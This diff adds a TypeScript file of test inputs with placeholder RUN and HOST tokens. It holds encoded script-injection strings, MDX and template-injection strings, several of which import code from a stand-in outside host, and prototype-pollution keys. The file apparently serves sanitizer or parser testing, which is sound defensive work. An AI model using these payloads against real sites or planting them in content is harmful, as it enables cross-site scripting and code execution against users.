@@ -1,0 +1,73 @@
+/**
+ * Texts that a compiler or a decoder may take for code or for names;
+ * `payloads.ts` says what `RUN` and `HOST` stand for.
+ */
+
+export const ENTITIES = [
+  '&lt;script&gt;RUN&lt;/script&gt;',
+  '&#60;script&#62;RUN&#60;/script&#62;',
+  '&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;',
+  '&#0000060script&#0000062RUN',
+  '&lt&lt;img src=x onerror=RUN&gt',
+  '&amp;lt;script&amp;gt;RUN',
+  '&quot; onfocus=&quot;RUN',
+  '&apos; autofocus onfocus=&apos;RUN',
+  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
+  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
+  '%3Cscript%3ERUN%3C/script%3E',
+  '%253Cscript%253ERUN%253C/script%253E',
+  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
+  '\u02BAonfocus=RUN \u2039script\u203ARUN',
+  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
+  '\u2028RUN\u2029',
+  '\u202E<script>RUN</script>',
+  '\uFEFF<script>RUN</script>',
+] as const
+
+export const MDX = [
+  '{RUN}',
+  '{(() => RUN)()}',
+  '{globalThis.RUN}',
+  '{[].constructor.constructor("RUN")()}',
+  '{...RUN}',
+  '{/* */ RUN}',
+  '${RUN}',
+  '{{RUN}}',
+  '{{constructor.constructor("RUN")()}}',
+  '<%= RUN %>',
+  '#{RUN}',
+  'import x from "//HOST/x.js"',
+  "import 'data:text/javascript,RUN'",
+  'export const x = RUN',
+  'export default () => RUN',
+  'export { RUN as x } from "//HOST"',
+  '<Tip>{RUN}</Tip>',
+  '<Tip onClick={() => RUN}>x</Tip>',
+  '<Tip dangerouslySetInnerHTML={{__html:"<img src=x onerror=RUN>"}}/>',
+  '<Tip {...{onClick:()=>RUN}}>x</Tip>',
+  '<Tip ref="RUN">x</Tip>',
+  '<Tip><img src=x onerror=RUN/></Tip>',
+  '<RecipeCard id={RUN} />',
+  '<RecipeCard id="1" onLoad="RUN" />',
+  '<RecipeCard id="RUN" />',
+  '<RecipeCard.constructor id="RUN" />',
+  '<constructor onLoad="RUN" />',
+  '<__proto__>RUN</__proto__>',
+  '<></><script>RUN</script>',
+  '<svg:script>RUN</svg:script>',
+] as const
+
+export const PROTOTYPE_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  'toString',
+  'valueOf',
+  '__defineGetter__',
+  'constructor.prototype.polluted',
+  '__proto__[polluted]=RUN',
+  '{"__proto__":{"polluted":"RUN"}}',
+  '{"constructor":{"prototype":{"polluted":"RUN"}}}',
+  '[__proto__](__proto__)',
+] as const
